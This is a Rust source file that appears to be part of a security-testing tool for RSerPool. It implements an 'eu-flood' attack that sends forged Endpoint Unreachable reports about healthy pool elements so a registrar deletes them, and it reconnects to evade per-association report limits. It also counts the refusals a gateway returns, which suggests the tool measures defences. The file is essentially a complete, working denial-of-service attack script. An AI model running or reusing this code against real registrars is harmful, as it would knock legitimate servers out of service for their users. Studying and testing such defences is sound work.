//! `eu-flood` (RFC 5355 §2.13): Endpoint Unreachable reports for healthy
//! PEs at a registrar. RSPLIB deletes a PE at the `-maxbadpereports`th
//! report (default 3); `-maxeurate` limits reports per association. With
//! `--registrar-url` the reports go through the gateway as a browser's
//! would, and the gateway's refusals are counted per sample.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::{bail, Result};
use client_core::gateway_protocol::NoticeCode;
use client_core::policy::Rng;
use client_core::wire::PoolElementId;
use rserpool_client::{GatewayOptions, RegistrarChannel};

use super::pool_user_path::{self, Heard, Path, Via};
use super::{choose, Act, Attack, Common, Ctx};
use crate::fields;
use crate::messages::{self, parse_pe_id};
use crate::output::Output;
use crate::stop::Stop;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// Registrars' ASAP endpoints.
    #[command(flatten)]
    pub common: Common,
    /// PE to report (hex 0x… or decimal); repeat. Default: PEs of the
    /// pool as the first target resolves them.
    #[arg(long = "pe-id", value_name = "ID", value_parser = parse_pe_id)]
    pub pe_ids: Vec<u32>,
    /// Without --pe-id: how many of the resolved PEs to report (chosen by
    /// the seed). Default: all.
    #[arg(long, value_name = "N")]
    pub victims: Option<usize>,
    /// Open a fresh association after this many reports (a registrar's
    /// -maxeurate counts per association). 0: one association per target.
    #[arg(long = "reconnect-every", value_name = "N", default_value_t = 0)]
    pub reconnect_every: u64,
    #[command(flatten)]
    pub via: Via,
}

/// What came back for the reports: the registrar answers none, a gateway
/// refuses some (RFC 5355 §2.13 limits).
#[derive(Default)]
struct Refusals {
    sent: AtomicU64,
    /// `report-refused`: PE not resolved on this session, reported on it
    /// already, or the gateway's budget for the PE spent.
    report_refused: AtomicU64,
    /// `rate-limited`: beyond the session's report rate.
    rate_limited: AtomicU64,
    /// Any other refusal.
    other: AtomicU64,
}

impl Refusals {
    fn refused(&self) -> u64 {
        self.report_refused.load(Ordering::Relaxed)
            + self.rate_limited.load(Ordering::Relaxed)
            + self.other.load(Ordering::Relaxed)
    }
}

/// Counts the refusals that come back on `channel` until it ends.
fn count_refusals(
    channel: Arc<RegistrarChannel>,
    refusals: Arc<Refusals>,
) -> tokio::task::JoinHandle<()> {
    tokio::spawn(async move {
        while let Ok(heard) = pool_user_path::recv(&channel).await {
            if let Heard::Refused { code, .. } = heard {
                let counter = match code {
                    NoticeCode::ReportRefused => &refusals.report_refused,
                    NoticeCode::RateLimited => &refusals.rate_limited,
                    _ => &refusals.other,
                };
                counter.fetch_add(1, Ordering::Relaxed);
            }
        }
    })
}

struct EuFlood {
    channels: Vec<Arc<RegistrarChannel>>,
    paths: Vec<Path>,
    gateway: GatewayOptions,
    victims: Vec<u32>,
    pool: client_core::wire::PoolHandle,
    reconnect_every: u64,
    sent_on: Vec<u64>,
    refusals: Arc<Refusals>,
    readers: Vec<tokio::task::JoinHandle<()>>,
}

impl Attack for EuFlood {
    async fn act(&mut self, seq: u64, _rng: &mut Rng, _out: &Output) -> Result<Act> {
        let n = self.victims.len() as u64;
        let victim = self.victims[(seq % n) as usize];
        // One round over the victims per target, then the next target.
        let t = ((seq / n) % self.paths.len() as u64) as usize;
        let mut reconnected = false;
        if self.reconnect_every > 0 && self.sent_on[t] >= self.reconnect_every {
            let channel = Arc::new(pool_user_path::connect(&self.paths[t], &self.gateway).await?);
            self.readers
                .push(count_refusals(channel.clone(), self.refusals.clone()));
            self.channels[t] = channel;
            self.sent_on[t] = 0;
            reconnected = true;
        }
        self.channels[t]
            .send_asap(&messages::endpoint_unreachable(&self.pool, victim))
            .await?;
        self.sent_on[t] += 1;
        self.refusals.sent.fetch_add(1, Ordering::Relaxed);
        let mut f = fields! {
            "pe_id" => PoolElementId(victim).to_string(),
            "target" => self.paths[t].target.to_string(),
            "new_association" => reconnected,
        };
        if let Some(url) = &self.paths[t].via {
            f.insert("via".into(), url.clone().into());
        }
        Ok(("endpoint-unreachable", f))
    }
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let paths_and_trust = a
        .via
        .paths(&ctx.targets)
        .and_then(|p| Ok((p, a.via.gateway()?)));
    let pool = ctx.pool.clone();
    let pe_ids = a.pe_ids.clone();
    let want = a.victims;
    let mut rng = Rng::new(ctx.rng.next_u64());
    let Some((paths, gateway, channels, victims)) = ctx
        .setup(async {
            let (paths, gateway) = paths_and_trust?;
            let mut channels = Vec::new();
            for p in &paths {
                channels.push(Arc::new(pool_user_path::connect(p, &gateway).await?));
            }
            // Through the gateway this resolution is also what lets the
            // session report these PEs at all.
            let victims = if pe_ids.is_empty() {
                let ids: Vec<u32> = pool_user_path::resolve_all(&channels[0], &pool)
                    .await?
                    .iter()
                    .map(|e| e.id.0)
                    .collect();
                choose(&ids, want.unwrap_or(ids.len()), &mut rng)
            } else {
                pe_ids
            };
            if victims.is_empty() {
                bail!("no PE to report: pool {pool} is empty and no --pe-id given");
            }
            Ok((paths, gateway, channels, victims))
        })
        .await
    else {
        return Ok(());
    };
    ctx.out.event(
        "victims",
        victims
            .iter()
            .map(|v| PoolElementId(*v).to_string())
            .collect::<Vec<_>>(),
    );
    let refusals = Arc::new(Refusals::default());
    let readers = channels
        .iter()
        .map(|c| count_refusals(c.clone(), refusals.clone()))
        .collect();
    // Every 250 ms: reports sent and refused in the interval.
    let sampler = {
        let r = refusals.clone();
        let (mut sent, mut refused) = (0, 0);
        super::spawn_sampler(ctx.out.clone(), SAMPLE_MS, move || {
            let now = (r.sent.load(Ordering::Relaxed), r.refused());
            let m = fields! {
                "attacker_reports" => now.0 - sent,
                "attacker_reports_refused" => now.1.saturating_sub(refused),
            };
            (sent, refused) = now;
            m
        })
    };
    let mut attack = EuFlood {
        sent_on: vec![0; channels.len()],
        channels,
        paths,
        gateway,
        victims,
        pool,
        reconnect_every: a.reconnect_every,
        refusals: refusals.clone(),
        readers,
    };
    let f = super::run_paced(&mut attack, &mut ctx, false).await;
    // Refusals still on their way.
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    sampler.abort();
    for r in attack.readers.drain(..) {
        r.abort();
    }
    super::done(
        &ctx,
        f,
        fields! {
            "refused" => refusals.refused(),
            "report_refused" => refusals.report_refused.load(Ordering::Relaxed),
            "rate_limited" => refusals.rate_limited.load(Ordering::Relaxed),
        },
    );
    Ok(())
}

/// Interval of the sample lines (the runner's).
const SAMPLE_MS: u64 = 250;
